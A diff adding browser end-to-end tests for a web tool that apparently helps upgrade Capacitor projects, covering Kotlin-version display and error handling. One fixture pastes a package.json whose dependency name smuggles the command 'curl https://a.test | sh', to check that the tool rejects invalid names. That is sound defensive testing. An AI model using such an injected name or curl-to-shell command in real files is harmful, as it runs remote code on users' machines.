@@ -307,6 +307,40 @@ describe('what is dropped', () => {
   });
 });
 
+describe('the application', () => {
+  it('gives the Kotlin version in a variable one diff, and says what of a file it cannot use', async () => {
+    const {page} = await open('?from=v5&to=v7');
+    const library = 'classpath "org.jetbrains.kotlin:kotlin-gradle-plugin:$kotlin_version"';
+    await paste(
+      page,
+      `buildscript {\n  ext.kotlin_version = '1.8.20'\n  dependencies {\n    ${library}\n  }\n}\n`,
+      'android/build.gradle',
+    );
+    await expectShown(page.getByText(/^\+ *ext\.kotlin_version = '/));
+    await paste(page, '{"dependencies": {"@capacitor/core": "^5.0.0", "x; curl https://a.test | sh": "1"}}');
+    await expectShown(page.getByText("npm doesn't allow these names of dependencies, so they were left out"));
+    await expectShown(page.getByText(/^\+ *ext\.kotlin_version = '/));
+  });
+
+  it('that fails says so, and leads to the guides', async () => {
+    const {page} = await site.open(`${PAGE}?from=broken`, {
+      viewport: DESKTOP,
+      prepare: (opened) =>
+        opened.addInitScript(() => {
+          const {get} = URLSearchParams.prototype;
+          URLSearchParams.prototype.get = function (name): string | null {
+            if (name === 'from' && get.call(this, name) === 'broken') throw new Error('not today');
+            return get.call(this, name);
+          };
+        }),
+    });
+    await expectSeen(page.getByText('The assistant failed: not today'));
+    const guide = page.getByRole('alert').getByRole('link', {name: `Updating to ${LATEST}.0`});
+    expect(await guide.getAttribute('href')).toBe(`/docs/updating/${LATEST}-0`);
+    await expectSeen(page.getByRole('heading', {level: 1}));
+  });
+});
+
 describe('a pasted text', () => {
   it('is told by its content', async () => {
     const {page} = await open('?from=v6&to=v7');
